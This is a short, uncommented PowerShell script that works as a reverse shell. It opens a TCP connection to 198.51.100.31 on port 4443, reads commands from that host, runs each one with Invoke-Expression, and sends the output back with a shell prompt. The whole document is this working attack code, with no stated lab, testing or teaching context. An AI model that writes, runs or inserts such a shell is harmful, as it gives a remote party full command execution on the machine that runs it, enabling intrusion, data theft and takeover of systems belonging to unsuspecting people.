$c = New-Object System.Net.Sockets.TcpClient("198.51.100.31", 4443)
$s = $c.GetStream()
$w = New-Object System.IO.StreamWriter($s); $w.AutoFlush = $true
$r = New-Object System.IO.StreamReader($s)
$w.Write("PS " + (Get-Location).Path + "> ")
while (($line = $r.ReadLine()) -ne $null) {
  try { $out = (Invoke-Expression $line 2>&1 | Out-String) } catch { $out = $_.Exception.Message }
  $w.Write($out + "PS " + (Get-Location).Path + "> ")
}
$c.Close()
